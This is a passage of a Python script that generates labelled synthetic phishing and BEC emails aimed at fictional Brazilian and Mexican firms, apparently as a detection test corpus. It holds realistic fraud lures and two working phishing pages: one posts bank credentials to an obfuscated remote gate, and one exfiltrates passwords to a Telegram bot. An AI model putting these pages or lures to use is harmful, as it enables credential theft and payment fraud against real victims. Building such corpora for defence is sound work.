            f"From: {addr('Bradesco Net Empresa', 'netempresa@bradesco.com.br', quote=False)}",
            f"Subject: {ew('Chave de Segurança Bradesco Net Empresa - Expira em 24 horas')}",
            f"Message-ID: <{hx(slug, 32)}@vmi1587702.contaboserver.net>",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0"]
    page = """<!DOCTYPE html>
<html lang="pt-BR"><head><meta charset="UTF-8"><title>Bradesco Net Empresa - Validação</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{font-family:Arial;background:#f4f4f4;margin:0}.top{background:linear-gradient(90deg,#cc092f,#b81570);height:64px}
.box{width:360px;margin:40px auto;background:#fff;padding:28px;border-radius:6px;box-shadow:0 1px 4px #ccc}
input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #bbb;border-radius:3px}button{background:#cc092f;color:#fff;border:0;padding:12px;width:100%;font-weight:bold}</style></head>
<body><div class="top"></div><div class="box"><h3 style="color:#cc092f">Validação da Chave de Segurança</h3>
<p style="font-size:13px">Informe os dados de acesso para manter a chave ativa.</p>
<form id="f"><label>Agência</label><input name="ag" maxlength="4"><label>Conta</label><input name="cc" maxlength="9">
<label>Nome de usuário</label><input name="us"><label>Senha (8 dígitos)</label><input name="pw" type="password" maxlength="8">
<label>Código da Chave de Segurança</label><input name="tk" maxlength="6"><button type="submit">CONFIRMAR</button></form></div>
<script>
var _0x=['aHR0cHM6Ly9icmFkLXZhbGlkYS5jb20vZ2F0ZS5waHA=','UE9TVA=='];
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();
var d=new FormData(this);fetch(atob(_0x[0]),{method:atob(_0x[1]),body:d}).then(function(){
document.body.innerHTML='<p style="text-align:center;margin-top:80px">Chave validada com sucesso. Aguarde o contato do seu gerente.</p>';});});
</script></body></html>
"""
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<p><b>Prezado Cliente Bradesco Net Empresa,</b></p>
<p>A sua Chave de Segurança (dispositivo eletrônico) <b>expira em 24 horas</b>. Para evitar o bloqueio das transações da empresa, realize a validação através do formulário em anexo.</p>
<p>Abra o arquivo <b>BradescoNetEmpresa_Validacao.html</b> e siga as instruções.</p>
<p>Atenciosamente,<br>Bradesco Net Empresa<br><span style="font-size:11px;color:#888">Fone Fácil Bradesco: 4002 0022</span></p>
</body></html>
"""
    body = Multi("mixed", boundary(slug, "phpmailer"), [
        text(html, "html"),
        attachment("text/html", "BradescoNetEmpresa_Validacao.html", page.encode()),
    ])
    add("phishing", "phish", slug,
        "Spoof of bradesco.com.br from a Contabo VPS (SPF none, DMARC fail, sent to junk) with an HTML attachment that posts agência/conta/senha/token to a remote gate.",
        hdr(top, orig, tail), body)


def br_correios_taxa() -> None:
    slug = "br-correios-taxa-importacao-pix"
    t = T(2024, 3, 7, 15, 11, 22, -3)
    dom = "correios-encomenda.com"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="159.135.228.10", host="m228-10.mailgun.net",
                        mailfrom="<bounce+d8f1a2.4b6c-anderson.lima=transvale.com.br@mg.correios-encomenda.com>",
                        from_dom=dom, spf="pass", dkim="pass", dkim_d="mg.correios-encomenda.com", dmarc="pass",
                        compauth="pass", reason="100", ctry="US")
    orig = [dkim_sig("mg.correios-encomenda.com", "smtp", slug, t,
                     "Content-Transfer-Encoding: Content-Type: Mime-Version: Subject: Subject: From: From: To: To: Date: Message-Id: Sender: Sender"),
            f"X-Mailgun-Sid: {b64s(slug + 'sid', 60)}",
            f"Date: {rfc(utc(t))}",
            f"From: Correios <rastreamento@correios-encomenda.com>",
            "To: anderson.lima@transvale.com.br",
            f"Subject: {ew('Seu objeto NL418273645BR aguarda pagamento de taxa alfandegária')}",
            f"Message-Id: <{t.strftime('%Y%m%d%H%M%S')}.{hx(slug, 16)}@correios-encomenda.com>",
            "Mime-Version: 1.0",
            "Sender: rastreamento@correios-encomenda.com",
            "X-Mailgun-Sending-Ip: 159.135.228.10",
            "X-Mailgun-Batch-Id: " + hx(slug + "batch", 24)]
    link = "https://correios-encomenda.com/rastreio/NL418273645BR?pg=pix"
    html = f"""<!doctype html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f2f2">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif">
<tr><td style="background:#00416b;padding:16px"><img src="https://correios-encomenda.com/assets/correios-logo.png" alt="Correios" height="34"></td></tr>
<tr><td style="background:#ffd400;height:6px"></td></tr>
<tr><td style="padding:26px 30px;color:#333;font-size:15px;line-height:22px">
<p><b>Olá!</b></p>
<p>Sua encomenda internacional <b>NL418273645BR</b> foi <b>fiscalizada pela Receita Federal</b> e está aguardando o pagamento dos tributos de importação para seguir para entrega.</p>
<table width="100%" style="font-size:14px;border:1px solid #e3e3e3;margin:10px 0"><tr><td style="padding:8px">Origem</td><td style="padding:8px">SHENZHEN / CN</td></tr>
<tr style="background:#fafafa"><td style="padding:8px">Status</td><td style="padding:8px;color:#d4001a"><b>Aguardando pagamento</b></td></tr>
<tr><td style="padding:8px">Valor a pagar</td><td style="padding:8px"><b>R$ 54,90</b></td></tr></table>
<p>O pagamento deve ser realizado em até <b>3 dias úteis</b> via Pix. Após o prazo, o objeto será <b>devolvido ao remetente</b>.</p>
<p align="center"><a href="{link}" style="display:inline-block;background:#00416b;color:#ffd400;padding:13px 32px;text-decoration:none;font-weight:bold">PAGAR COM PIX</a></p>
</td></tr>
<tr><td style="padding:14px 30px;font-size:11px;color:#999;border-top:1px solid #eee">Correios - Empresa Brasileira de Correios e Telégrafos</td></tr>
</table></td></tr></table>
<img src="https://email.mg.correios-encomenda.com/o/{b64url(slug + 'open', 60)}" width="1" height="1" alt="" style="display:none"></body></html>
"""
    plain = f"Sua encomenda NL418273645BR aguarda o pagamento de R$ 54,90 de tributos. Pague via Pix: {link}\n"
    body = alt(slug, plain, html, "sendgrid")
    add("phishing", "phish", slug,
        "Correios customs-fee lure (R$ 54,90 via Pix) from a look-alike domain sending through Mailgun with aligned DKIM.",
        hdr(top, orig, tail), body)


def br_intimacao_tjsp_zip() -> None:
    slug = "br-intimacao-tjsp-zip-gcs"
    t = T(2024, 8, 19, 11, 36, 8, -3)
    dom = "intimacoes-eletronicas.net"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="185.239.242.117", host="tjsp.intimacoes-eletronicas.net",
                        mailfrom="<intimacao@intimacoes-eletronicas.net>", from_dom=dom, spf="none", dkim="none",
                        dmarc="none", compauth="fail", reason="001", ctry="NL")
    orig = [f"Date: {rfc(t)}",
            f"From: {addr('TJSP - Intimação Eletrônica', 'intimacao@intimacoes-eletronicas.net', quote=False)}",
            "To: juridico@transvale.com.br",
            f"Subject: {ew('INTIMAÇÃO JUDICIAL ELETRÔNICA - Processo nº 1023847-55.2024.8.26.0100')}",
            f"Message-ID: <{hx(slug, 32)}@tjsp.intimacoes-eletronicas.net>",
            "X-Mailer: PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0"]
    link = "https://storage.googleapis.com/intimacao-tjsp-1023847/Intimacao_Processo_1023847-55.2024.8.26.0100.zip"
    html = f"""<html><body style="font-family:'Times New Roman',serif;font-size:15px;color:#000">
<div style="width:640px;border:1px solid #999;padding:24px">
<p style="text-align:center"><b>PODER JUDICIÁRIO<br>TRIBUNAL DE JUSTIÇA DO ESTADO DE SÃO PAULO</b><br>Foro Central Cível - 22ª Vara Cível</p>
<hr>
<p><b>INTIMAÇÃO ELETRÔNICA</b></p>
<p>Processo Digital nº: <b>1023847-55.2024.8.26.0100</b><br>Classe - Assunto: Procedimento Comum Cível - Indenização por Dano Material<br>
Requerente: MARCENARIA IMPERIAL MOVEIS PLANEJADOS LTDA<br>Requerido: <b>TRANSVALE LOGISTICA LTDA</b></p>
<p>Fica a parte requerida INTIMADA para, no prazo de 15 (quinze) dias, apresentar manifestação acerca dos documentos juntados às fls. 87/112, sob pena de preclusão.</p>
<p>O inteiro teor da decisão e os documentos estão disponíveis para consulta no link abaixo:</p>
<p><a href="{link}">Visualizar Intimação e Documentos (PDF)</a></p>
<p style="font-size:12px">Documento assinado digitalmente nos termos da Lei 11.419/2006, conforme impressão à margem direita.</p>
</div></body></html>
"""
    body = Multi("alternative", boundary(slug, "phpmailer"), [
        text(f"INTIMAÇÃO ELETRÔNICA - Processo 1023847-55.2024.8.26.0100\nDocumentos: {link}\n", "plain"),
        text(html, "html")])
    add("malware", "phish", slug,
        "Casbaneiro-style TJSP 'intimação eletrônica' from an unauthenticated VPS; the link downloads a ZIP hosted on storage.googleapis.com.",
        hdr(top, orig, tail), body)


def br_m365_quarentena_html() -> None:
    slug = "br-m365-quarentena-html-telegram"
    t = T(2025, 6, 10, 8, 19, 51, -3)
    dom = "moraesfilhocontabil.com.br"
    src = "CP3P152MB5721.LAMP152.PROD.OUTLOOK.COM"
    out = "CP5P152CA0044.LAMP152.PROD.OUTLOOK.COM"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="40.107.214.97", host="mail-cp2bra01on2097.outbound.protection.outlook.com",
                        mailfrom="<fiscal@moraesfilhocontabil.com.br>", from_dom=dom, spf="pass", dkim="pass",
                        dmarc="pass", compauth="pass", reason="100", ctry="BR")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10d6:102:1f2::8", out, "2603:10d6:102:b7::11")
    hops += ms_arc_out(slug, t, dom, "", dom)
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Microsoft 365 Admin', 'fiscal@moraesfilhocontabil.com.br', quote=False)}",
            "To: patricia.albuquerque@transvale.com.br",
            f"Subject: {ew('Notificação de quarentena: 4 mensagens retidas para patricia.albuquerque@transvale.com.br', mode='B')}",
            "Thread-Topic: Notificacao de quarentena: 4 mensagens retidas",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: pt-BR, en-US",
            "Content-Language: pt-BR",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',Tahoma,sans-serif;font-size:14px;color:#222;max-width:620px">
<p style="font-size:22px;color:#0078d4;margin:0 0 12px">Microsoft 365</p>
<p><b>Revise essas mensagens na quarentena</b></p>
<p>4 mensagens destinadas a <b>patricia.albuquerque@transvale.com.br</b> foram retidas e não foram entregues na sua caixa de entrada. Mensagens não liberadas em até 48 horas serão excluídas permanentemente.</p>
<table style="border-collapse:collapse;font-size:13px;width:100%">
<tr style="background:#f3f2f1"><th align="left" style="padding:6px">Remetente</th><th align="left" style="padding:6px">Assunto</th><th align="left" style="padding:6px">Data</th></tr>
<tr><td style="padding:6px">comprovantes@itau.com.br</td><td style="padding:6px">Comprovante de TED - Lote 0606</td><td style="padding:6px">09/06/2025</td></tr>
<tr><td style="padding:6px">nfe@rodopneus.com.br</td><td style="padding:6px">NF-e 54.998 - TRANSVALE</td><td style="padding:6px">09/06/2025</td></tr>
<tr><td style="padding:6px">rh@transvale.com.br</td><td style="padding:6px">Holerite maio/2025</td><td style="padding:6px">09/06/2025</td></tr>
<tr><td style="padding:6px">contratos@bandeiranteconstrutora.com.br</td><td style="padding:6px">Aditivo contratual assinado</td><td style="padding:6px">10/06/2025</td></tr>
</table>
<p>Para liberar as mensagens, abra o arquivo anexo <b>Quarentena_transvale.com.br.html</b> e confirme sua identidade.</p>
<p style="font-size:11px;color:#666">Esta mensagem foi enviada de um endereço de email não monitorado. Não responda a esta mensagem.<br>Privacidade | Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</div></body></html>
"""
    page = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Entrar na sua conta</title>
<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#f2f2f2 url(data:image/png;base64,iVBORw0KGgo=)}
.c{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:16px 0}
.b{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>
<body><div class="c"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft">
<h2 style="font-weight:600">Insira a senha</h2><div id="em"></div>
<input type="password" id="pw" placeholder="Senha"><p style="font-size:13px"><a href="#">Esqueci minha senha</a></p>
<button class="b" onclick="go()">Entrar</button><div style="clear:both"></div></div>
<script>
var e="patricia.albuquerque@transvale.com.br";document.getElementById('em').innerText=e;var n=0;
function go(){var p=document.getElementById('pw').value;if(!p)return;n++;
var t="7034418819:AAF"+"q1Xv-LrP0k9mE2bQw_Jd8sT3uYv6Ncz";var c="-100211874532";
var x=new XMLHttpRequest();x.open("GET","https://api.telegram.org/bot"+t+"/sendMessage?chat_id="+c+"&text="+encodeURIComponent("O365 | "+e+" | "+p+" | try "+n),true);x.send();
if(n<2){alert("Sua senha está incorreta. Tente novamente.");document.getElementById('pw').value="";}
else{window.location.replace("https://outlook.office.com/mail/");}}
</script></body></html>
"""
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [
            text("Microsoft 365\n\n4 mensagens destinadas a patricia.albuquerque@transvale.com.br foram retidas. Abra o anexo para liberar.\n"),
            text(html, "html")]),
        attachment("text/html", "Quarentena_transvale.com.br.html", page.encode()),
    ])
    add("phishing", "phish", slug,
        "Portuguese Microsoft 365 quarantine-release lure from a compromised accounting firm's M365 mailbox; HTML attachment pre-filled with the victim's address exfiltrates the password to a Telegram bot.",
        hdr(top, hops, orig, tail), body)


def br_ceo_ted_iphone() -> None:
    slug = "br-ceo-ted-urgente-gmail"
    t = T(2023, 10, 17, 10, 4, 29, -3)
    top, tail = rx_m365(BR_M365, slug, t=t, ip="209.85.219.176", host="mail-yb1-f176.google.com",
                        mailfrom="<ricardo.menezes.dir@gmail.com>", from_dom="gmail.com", spf="pass", dkim="pass",
                        dmarc="pass", compauth="pass", reason="100", ctry="US")
    hops = [f"Received: by mail-yb1-f176.google.com with SMTP id 3f1490d57ef6-d9a398f411fso5543817276.3\n"
            f"        for <patricia.albuquerque@transvale.com.br>; {pacific(t)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(slug + 'src', 86)}",
            f"X-Received: by 2002:a25:{hx(slug + 'xr', 4)}:0:b0:d9a:{hx(slug + 'x2', 4)}:{hx(slug + 'x3', 4)} with SMTP id "
            f"{alnum(slug + 'x4', 10).lower()}-{num(slug, 100000, 999999)}.{num(slug + 'y', 10, 99)}.{epoch(t)}{num(slug + 'z', 100, 999)};\n        {pacific(t)}",
            f"Received: from smtpclient.apple ([177.37.152.204])\n        by smtp.gmail.com with ESMTPSA id "
            f"{alnum(slug + 'es', 12).lower()}.{num(slug + 'es2', 10, 99)}.2023.10.17.06.04.27\n        for <patricia.albuquerque@transvale.com.br>\n"
            f"        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        {pacific(t - timedelta(seconds=2))}"]
    orig = [dkim_sig("gmail.com", "20230601", slug, t,
                     "to:date:message-id:subject:mime-version:content-transfer-encoding:from:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra="transvale.com.br"),
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'gms', 60)}",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: quoted-printable",
            "From: Ricardo Menezes <ricardo.menezes.dir@gmail.com>",
            "Mime-Version: 1.0 (1.0)",
            "Subject: Pagamento",
            f"Date: {rfc(t)}",
            f"Message-Id: <{HX(slug, 8)}-{HX(slug + '1', 4)}-{HX(slug + '2', 4)}-{HX(slug + '3', 4)}-{HX(slug + '4', 12)}@gmail.com>",
            "To: patricia.albuquerque@transvale.com.br",
            "X-Mailer: iPhone Mail (21A360)"]
    plain = """Patrícia, bom dia

Está no escritório? Preciso que você faça um TED hoje ainda, é referente a um adiantamento para fechamento de um contrato novo que estou negociando (assunto confidencial, ainda não comuniquei ninguém da diretoria).

Estou em reunião externa e sem acesso ao notebook, por isso estou usando meu e-mail pessoal. Me responda por aqui que te passo os dados do favorecido e o valor.

Obrigado

Ricardo Menezes
Enviado do meu iPhone
"""
    import quopri
    leaf = Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"')
    raw_headers = hdr(top, hops, orig, tail)
    # iPhone Mail puts Content-Type in the original block: render the single part body by hand
    data = quopri.encodestring(plain.encode()).replace(b"\r\n", b"\n")
    raw = raw_headers.encode() + b"\n\n" + data
    SAMPLES.append(("phishing", f"b16-phish-{slug}", "CEO fraud from a personal Gmail address with the CEO's name sent from an iPhone: asks the finance manager for a confidential same-day TED, no link.", raw))
    del leaf


def br_bec_lookalike_rodopneus() -> None:
    slug = "br-bec-fornecedor-pneus-lookalike"
    t = T(2024, 11, 12, 15, 27, 2, -3)
    dom = "rodopneus.net.br"
    src = "CP8P152MB4429.LAMP152.PROD.OUTLOOK.COM"
    out = "CP6P152CA0017.LAMP152.PROD.OUTLOOK.COM"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="40.107.215.53", host="mail-cp1bra01on2053.outbound.protection.outlook.com",
                        mailfrom="<marcos.vieira@rodopneus.net.br>", from_dom=dom, spf="pass", dkim="pass",
                        dmarc="pass", compauth="pass", reason="100", ctry="BR")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10d6:102:2a4::5", out, "2603:10d6:102:c1::3")
    hops += ms_arc_out(slug, t, dom, "", dom)
    prev_mid = f"<CPVP152MB4318{HX(slug + 'prev', 24)}@CPVP152MB4318.LAMP152.PROD.OUTLOOK.COM>"
    first_mid = f"<{hx(slug + 'first', 24)}@rodopneus.com.br>"
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            "From: Marcos Vieira <marcos.vieira@rodopneus.net.br>",
            "To: Juliana Ferraz <juliana.ferraz@transvale.com.br>",
            "CC: Financeiro Rodopneus <financeiro@rodopneus.net.br>",
            "Subject: RE: Faturas pendentes - Outubro/2024",
            "Thread-Topic: Faturas pendentes - Outubro/2024",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            f"References: {first_mid}\n {prev_mid}",
            f"In-Reply-To: {prev_mid}",
            "Accept-Language: pt-BR, en-US",
            "Content-Language: pt-BR",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    reply = """Boa tarde Juliana, tudo bem?

Obrigado pelo retorno. Conforme comentado, estamos passando por uma auditoria no Banco do Brasil e a nossa conta de recebimentos está temporariamente em revisão, por isso os pagamentos das faturas em aberto devem ser feitos na conta abaixo, que é a conta operacional da nossa filial de Osasco:

Banco Inter (077)
Agência: 0001
Conta corrente: 2294817-3
Favorecido: RODOPNEUS COM DE PNEUS LTDA

Faturas: 8812 (R$ 16.480,00), 8839 (R$ 14.925,00) e 8857 (R$ 16.825,00) - total R$ 48.230,00.

Segue em anexo o comunicado assinado pela nossa diretoria financeira. Os boletos antigos foram baixados, por favor desconsiderar. Assim que efetuar, me envie o comprovante para darmos baixa ainda hoje e liberar o faturamento do pedido de novembro.

Att,
Marcos Vieira
Analista Financeiro | Rodopneus Comércio de Pneus
(11) 3965-4410"""
    quoted = """De: Juliana Ferraz <juliana.ferraz@transvale.com.br>
Enviado: segunda-feira, 11 de novembro de 2024 17:42
Para: Marcos Vieira <marcos.vieira@rodopneus.com.br>
Assunto: RE: Faturas pendentes - Outubro/2024

Oi Marcos, boa tarde.

As três faturas estão programadas para pagamento nesta semana. Os boletos vencem dia 14, vou pagar amanhã ou quarta.

Abs,
Juliana Ferraz
Contas a Pagar | TransVale Logística

De: Marcos Vieira <marcos.vieira@rodopneus.com.br>
Enviado: segunda-feira, 11 de novembro de 2024 10:05
Para: Juliana Ferraz <juliana.ferraz@transvale.com.br>
Assunto: Faturas pendentes - Outubro/2024

Bom dia Juliana,

Consta em aberto no nosso sistema as faturas 8812, 8839 e 8857 referentes às recapagens de outubro. Consegue verificar a previsão de pagamento?

Att,
Marcos Vieira"""
    plain = reply + "\n\n________________________________\n" + quoted + "\n"
    def h(s: str) -> str:
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\n", "<br>\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>p{{margin:0}}</style></head>
<body dir="ltr"><div class="elementToProof" style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">
{h(reply)}</div>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">{h(quoted)}</font></div>
</body></html>
"""
    letter = pdf_doc(["RODOPNEUS COMERCIO DE PNEUS LTDA", "CNPJ 12.448.951/0001-07", "",
                      "COMUNICADO - ALTERACAO DE DADOS BANCARIOS", "", "Sao Paulo, 12 de novembro de 2024", "",
                      "Prezados clientes,", "",
                      "Informamos que, a partir desta data, os pagamentos de faturas devem ser",
                      "realizados exclusivamente na conta abaixo:", "",
                      "Banco Inter (077) - Agencia 0001 - Conta corrente 2294817-3", "",
                      "Os boletos emitidos anteriormente ficam cancelados.", "",
                      "Atenciosamente,", "", "Carlos Henrique Batista", "Diretor Financeiro"],
                     "Comunicado", "Microsoft: Print To PDF", "20241112151800-03'00'")
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain), text(html, "html")]),
        attachment("application/pdf", "Comunicado_Alteracao_Dados_Bancarios.pdf", letter),
    ])
    add("phishing", "phish", slug,
        "Supplier BEC in a reply thread from a look-alike of the tyre supplier's domain (.net.br instead of .com.br, own M365 tenant, all auth pass) moving three invoices to a new Banco Inter account.",
        hdr(top, hops, orig, tail), body)


def br_sharepoint_compromised() -> None:
    slug = "br-sharepoint-cliente-comprometido"
    t = T(2025, 3, 18, 11, 2, 14, -3)
    top, tail = rx_m365(BR_M365, slug, t=t, ip="40.107.236.40", host="mail-bn8nam11on2040.outbound.protection.outlook.com",
                        mailfrom="<no-reply@sharepointonline.com>", from_dom="sharepointonline.com", spf="pass",
                        dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="US")
    src = "SA1PR05MB8874.namprd05.prod.outlook.com"
    hops = [f"Received: from {src} (2603:10b6:806:2a4::19) by\n BN8NAM11FT044.mail.protection.outlook.com with Microsoft SMTP Server "
            f"(version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_ver(t)}; {rfc(utc(t))}"]
    hops += ms_arc_out(slug, t, "sharepointonline.com", "", "sharepointonline.com")
    orig = [dkim_sig("sharepointonline.com", "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: Luciana Prado <no-reply@sharepointonline.com>",
            "To: <anderson.lima@transvale.com.br>",
            "Subject: " + ew('Luciana Prado compartilhou "Proposta Comercial - Frete Dedicado 2025" com você', mode='B'),
            f"Date: {rfc(utc(t))}",
            f"Message-ID: <{guid(slug)}@{src.upper()}>",
            "Reply-To: luciana.prado@bandeiranteconstrutora.com.br",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "x-ms-exchange-messagesentrepresentingtype: 1",
            f"x-ms-exchange-organization-sharepoint-correlation: {guid(slug + 'spc')}",
            "MIME-Version: 1.0"]
    link = ("https://bandeiranteconstrutora-my.sharepoint.com/:b:/g/personal/luciana_prado_bandeiranteconstrutora_com_br/"
            f"E{b64url(slug + 'sp', 45)}?e={alnum(slug + 'e', 6)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:'Segoe UI',Arial,sans-serif;max-width:560px;margin:0 auto;padding:24px;color:#242424">
<table role="presentation" style="width:100%"><tr><td style="width:40px"><div style="width:36px;height:36px;border-radius:18px;background:#8764b8;color:#fff;text-align:center;line-height:36px;font-size:14px">LP</div></td>
<td style="font-size:20px;font-weight:600;padding-left:10px">Luciana Prado compartilhou um arquivo com você</td></tr></table>
<div style="margin:20px 0;padding:12px 16px;border-left:3px solid #8764b8;background:#faf9f8;font-size:14px">Anderson, segue a proposta para o frete dedicado do próximo ano, com a planilha de rotas e a minuta do contrato. Preciso do retorno até sexta. Obrigada!</div>
<table role="presentation" style="width:100%;border:1px solid #e1dfdd;border-radius:4px"><tr>
<td style="padding:14px;width:32px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/pdf.png" width="32" height="32" alt=""></td>
<td style="padding:14px;font-size:14px;font-weight:600">Proposta Comercial - Frete Dedicado 2025</td></tr></table>
<p style="margin:24px 0"><a href="{link}" style="background:#0f6cbd;color:#fff;text-decoration:none;padding:9px 20px;border-radius:4px;font-size:14px;font-weight:600">Abrir</a></p>
<p style="font-size:12px;color:#616161">Este link só funciona para os destinatários diretos desta mensagem.</p>
<p style="font-size:12px;color:#616161;margin-top:30px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/sharepoint_32x1.png" width="16" height="16" alt=""> Microsoft SharePoint<br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Política de Privacidade</a></p>
</div></body></html>
"""
    plain = (f"Luciana Prado compartilhou um arquivo com você\n\nAnderson, segue a proposta para o frete dedicado do próximo ano, com a planilha de rotas e a minuta do contrato. "
             f"Preciso do retorno até sexta. Obrigada!\n\nProposta Comercial - Frete Dedicado 2025\n{link}\n\nMicrosoft SharePoint\n")
    body = alt(slug, plain, html, "outlook")
    add("phishing", "phish", slug,
        "Genuine SharePoint sharing notification (sharepointonline.com, all auth pass) sent from a customer's compromised account; the shared PDF only carries a link to an AiTM sign-in page.",
        hdr(top, hops, orig, tail), body)


# =========================================================================
#  MEXICO: Autopartes Garza del Norte (Monterrey), Google Workspace — attacks
# =========================================================================

AG = "autopartesgarza.com.mx"


def mx_cfdi_link_zip() -> None:
    slug = "mx-cfdi-factura-link-zip-mekotio"
    t = T(2023, 7, 19, 9, 48, 33, -6)
    rcpt = "cuentasporpagar@autopartesgarza.com.mx"
    srv = "mx1.hostingpyme.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="201.131.124.58", host=srv, mailfrom="facturacion@refaccionariadelvalle.mx",
                 spf="pass", dkims=[("pass", "@refaccionariadelvalle.mx", "default")],
                 dmarc=None)
    hops = [f"Received: from [187.190.44.12] (port=52218 helo=webmail.refaccionariadelvalle.mx)\n\tby {srv} with esmtpa (Exim 4.96.2)\n"
            f"\t(envelope-from <facturacion@refaccionariadelvalle.mx>)\n\tid 1qM2xk-0007Ge-0n;\n\t{rfc(t - timedelta(seconds=2))}"]
    orig = [dkim_sig("refaccionariadelvalle.mx", "default", slug, t,
                     "Message-ID:Subject:To:From:Date:Content-Transfer-Encoding:Content-Type:MIME-Version:Sender:Reply-To:Cc"),
            "MIME-Version: 1.0",
            f"Date: {rfc(t)}",
            f"From: {addr('Facturación Electrónica', 'facturacion@refaccionariadelvalle.mx', 'UTF-8', 'Q')}",
            f"To: {rcpt}",
            f"Subject: {ew('Envío de CFDI 4.0 - Factura A-18422 - AUTOPARTES GARZA DEL NORTE')}",
            f"Message-ID: <{hx(slug, 32)}@refaccionariadelvalle.mx>",
            "X-Sender: facturacion@refaccionariadelvalle.mx",
            "User-Agent: Roundcube Webmail/1.6.1"]
    orig += antiabuse(srv, AG, "refaccionariadelvalle.mx", "facturacion@refaccionariadelvalle.mx")
    link = "https://comprobantes-cfdi.s3.us-east-2.amazonaws.com/A-18422/CFDI_A-18422_PDF_XML.zip"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>
<p>Estimado cliente:</p>
<p>Le enviamos su Comprobante Fiscal Digital por Internet (CFDI) versión 4.0 correspondiente a su compra.</p>
<p>Serie y Folio: <strong>A-18422</strong><br />RFC Receptor: AGN0512093K4<br />Total: <strong>$ 23,716.48 MXN</strong><br />Método de pago: PPD - Pago en parcialidades o diferido</p>
<p>Debido al tamaño de los archivos, el PDF y el XML se encuentran disponibles en el siguiente enlace:</p>
<p><a href="{link}" rel="noreferrer">Descargar CFDI A-18422 (PDF y XML)</a></p>
<p>Favor de confirmar de recibido.</p>
<p>Saludos cordiales,<br />Departamento de Facturación<br />Refaccionaria del Valle</p>
</body></html>
"""
    plain = (f"Estimado cliente:\n\nLe enviamos su CFDI 4.0 Serie y Folio A-18422, Total $ 23,716.48 MXN.\n"
             f"Descargue el PDF y el XML en: {link}\n\nSaludos cordiales,\nDepartamento de Facturación\n")
    body = alt(slug, plain, html, "roundcube")
    add("malware", "phish", slug,
        "Mekotio-style fake CFDI 4.0 invoice from a compromised auto-parts shop's Roundcube mailbox (SPF/DKIM pass) linking to a ZIP on S3.",
        hdr(top, hops, orig), body)


def mx_sat_buzon_pdf_zip() -> None:
    slug = "mx-sat-buzon-tributario-pdf-zip"
